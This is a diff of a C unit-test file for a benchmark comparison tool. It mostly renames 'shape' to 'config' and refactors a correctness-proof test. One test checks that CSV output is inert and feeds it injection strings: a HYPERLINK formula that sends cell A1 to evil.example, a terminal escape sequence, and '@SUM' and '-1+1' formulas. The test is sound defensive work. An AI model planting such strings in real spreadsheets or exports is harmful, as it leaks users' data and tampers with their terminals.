@@ -6,6 +6,7 @@
 #include "analyzers/arm_differences.h"
 #include "analyzers/compare/comparison_reason.h"
 #include "reports/compare_report.h"
+#include "tests/unit/named_arms.h"
 
 #define COUNT(a) (sizeof(a) / sizeof((a)[0]))
 
@@ -46,11 +47,11 @@ static void trial_end(struct trial *t)
 }
 
 /* One block of one sample. */
-static void add_sample(struct trial *t, const char *variant, const char *shape, const char *cache, int process,
+static void add_sample(struct trial *t, const char *variant, const char *config, const char *cache, int process,
                        int block, double clock_hz, double duration_ns, const char *throttled)
 {
-    char row[256];
-    snprintf(row, sizeof row, "%s|%s|%d|%d|0|0|%s|1|%.17g|%.17g|%s", variant, shape, process, block, cache, clock_hz,
+    char row[512];
+    snprintf(row, sizeof row, "%s|%s|%d|%d|0|0|%s|1|%.17g|%.17g|%s", variant, config, process, block, cache, clock_hz,
              duration_ns, throttled);
     scratch_row(&t->scratch, BUNDLE_TIMING, row);
 }
@@ -65,11 +66,11 @@ static void add_second_sample(struct trial *t, const char *variant, int process,
 }
 
 /* Five processes that spread by 0.1% and less. */
-static void add_arm(struct trial *t, const char *variant, const char *shape, double duration_ns)
+static void add_arm(struct trial *t, const char *variant, const char *config, double duration_ns)
 {
     static const double spread[] = {0, 0.0004, -0.0005, 0.0007, -0.0003};
     for (int i = 0; i < 5; i++)
-        add_sample(t, variant, shape, "hot", i, 0, 1.5e9, duration_ns * (1 + spread[i]), "no");
+        add_sample(t, variant, config, "hot", i, 0, 1.5e9, duration_ns * (1 + spread[i]), "no");
 }
 
 /* A bundle of f/a at 1000 ns and f/b at `b_ns`, without a baseline in it. */
@@ -148,7 +149,7 @@ static void one_variant_each_joins_by_shape(void **state)
 {
     (void)state;
     static const struct {
-        const char *shape;
+        const char *config;
         enum comparison_verdict verdict;
         const char *reason;
     } cases[] = {{"mission", COMPARE_SLOWER, "interval_above_margin"}, {"large", COMPARE_UNUSABLE, "shapes_differ"}};
@@ -158,10 +159,10 @@ static void one_variant_each_joins_by_shape(void **state)
         trial_begin(&m.base, usual_machine);
         trial_begin(&m.cand, usual_machine);
         scratch_row(&m.base.scratch, BUNDLE_VARIANTS, "f/old|mission||k|||||ready");
-        snprintf(row, sizeof row, "g/new|%s||k|||||ready", cases[i].shape);
+        snprintf(row, sizeof row, "g/new|%s||k|||||ready", cases[i].config);
         scratch_row(&m.cand.scratch, BUNDLE_VARIANTS, row);
         add_arm(&m.base, "f/old", "mission", 1000);
-        add_arm(&m.cand, "g/new", cases[i].shape, 1100);
+        add_arm(&m.cand, "g/new", cases[i].config, 1100);
         MUST(match_judge(&m, NULL, &e));
         assert_int_equal(m.between.comparisons.count, 1);
         expect_row(&m.between.comparisons.items[0], cases[i].verdict, cases[i].reason);
@@ -385,7 +386,7 @@ static void a_recording_is_not_compared_with_itself(void **state)
     match_end(&m);
 }
 
-/* A check that failed, decided nothing, or is not there proves nothing; one of a shape that is only verified counts
+/* A check that failed, decided nothing, or is not there proves nothing; one of a config that is only verified counts
  * too. */
 static void proof_needs_every_check(void **state)
 {
@@ -404,17 +405,32 @@ static void proof_needs_every_check(void **state)
         {VERDICT_PASS, VERDICT_PASS, VERDICT_INCONCLUSIVE, false},
     };
     for (size_t i = 0; i < COUNT(cases); i++) {
-        struct selection_check selection = {
-            .variant = "f/a", .shape = "s", .status = (enum verdict_status)cases[i].selection};
-        struct correctness correctness[2] = {0};
-        struct analysis a = {.selection = {&selection, cases[i].selection >= 0, 1}, .correctness = {correctness, 0, 2}};
+        struct bundle bundle;
+        struct analysis a;
+        bundle_init(&bundle);
+        for (size_t k = 0; k < 2; k++) {
+            struct table *t = &bundle.tables[BUNDLE_VERIFY];
+            struct cell *row = table_add_row(t);
+            assert_non_null(row);
+            row[VERIFY_VARIANT] = cell_text(t, "f/a");
+            row[VERIFY_SHAPE] = cell_text(t, k ? "ragged" : "s");
+        }
+        analysis_init(&a, &bundle);
+        MUST(analysis_join(&a, &e));
+        if (cases[i].selection >= 0)
+            *ARRAY_PUSH(&a.selection) = (struct selection_check){
+                .variant = "f/a", .config = "s", .status = (enum verdict_status)cases[i].selection};
         if (cases[i].here >= 0)
-            correctness[a.correctness.count++] =
-                (struct correctness){.variant = "f/a", .shape = "s", .status = (enum verdict_status)cases[i].here};
+            *ARRAY_PUSH(&a.correctness) =
+                (struct correctness){.variant = "f/a", .config = "s", .status = (enum verdict_status)cases[i].here};
         if (cases[i].ragged >= 0)
-            correctness[a.correctness.count++] = (struct correctness){
-                .variant = "f/a", .shape = "ragged", .status = (enum verdict_status)cases[i].ragged};
-        if (analysis_is_proven(&a, "f/a", "s") != cases[i].is_proven)
+            *ARRAY_PUSH(&a.correctness) = (struct correctness){
+                .variant = "f/a", .config = "ragged", .status = (enum verdict_status)cases[i].ragged};
+        name_arms(&a);
+        const bool is_proven = analysis_is_proven(&a, analysis_arm(&a, "f/a", "s"));
+        analysis_release(&a);
+        bundle_release(&bundle);
+        if (is_proven != cases[i].is_proven)
             fail_msg("case %zu", i);
     }
 }
@@ -596,7 +612,7 @@ static void names_are_inert_as_csv(void **state)
     (void)state;
     struct comparison c = {.baseline = "=HYPERLINK(\"http://evil.example/\"&A1,\"ok\")",
                            .candidate = "\x1b]0;x\x07y",
-                           .shape = " @SUM(1)",
+                           .config = " @SUM(1)",
                            .cache = "hot",
                            .reason = "interval_below_margin",
                            .detail = "-1+1"};
